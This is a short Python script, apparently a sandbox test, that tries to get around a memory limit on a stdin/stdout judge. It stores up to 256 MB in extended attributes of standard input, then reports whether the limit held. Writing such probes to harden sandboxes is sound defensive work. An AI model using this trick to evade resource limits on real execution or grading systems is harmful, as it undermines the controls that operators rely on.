# Attack on stdin_stdout (memory limit): keeps it in extended attributes of its input.
import os
held = 0
try:
    while held < 256 << 20:
        os.setxattr(0, "user.%d" % held, bytes(65536))
        held += 65536
except OSError:
    pass
print(37 if held >= 256 << 20 else "the limit holds")
